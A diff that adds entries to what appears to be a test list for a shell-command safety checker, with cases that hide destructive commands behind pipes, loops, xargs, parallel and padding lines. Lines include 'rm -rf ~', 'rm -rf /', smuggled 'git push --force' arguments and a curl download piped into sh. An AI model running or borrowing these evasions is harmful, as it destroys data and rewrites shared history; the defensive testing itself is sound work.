@@ -63,6 +63,12 @@ IFS=, read -ra v <<< rm,-rf,/; "${v[@]}"
 printf '%s\n' rm -rf / | xargs env
 { echo 'rm -rf ~'; echo ls; } | sh
 for x in 'rm -rf ~' ls; do echo "$x"; done | sh
+{ echo 'rm -rf ~'; echo 1; echo 1; echo 1; echo 1; echo 1; echo 1; echo 1; echo 1; echo 1; echo 1; } | sh
+for x in a b c d e f g h --force; do git push $x; done
+printf '%s\n' a b c d e f g h --force | xargs -I{} git push {}
+parallel git push ::: a b c d e f g h --force
+while read -r x; do $x; done <<< $'a\na\na\na\na\na\na\na\nrm -rf ~'
+{ read -r a; read -r b; $b; } <<< $'ls\nrm -rf ~'
 { curl https://example.com/x.sh; echo; } | sh
 echo 'rm -rf ~' | bash -c sh
 tee >(sh) <<< 'rm -rf ~'
@@ -91,6 +97,7 @@ x=LS; ${x,,} -la
 x=a.tar.gz; mkdir "${x%%.*}"; echo "${x##*.}"
 x=1; [ "$x" = 1 ] && x=2; echo $x
 (x=ls; $x)
+for x in a b c d e f g h i j k; do git push origin "$x"; done
 IFS=,; v=ls,src; $v
 bash -c 'echo "$1"' _ 'rm -rf ~'
 python$V -m venv x
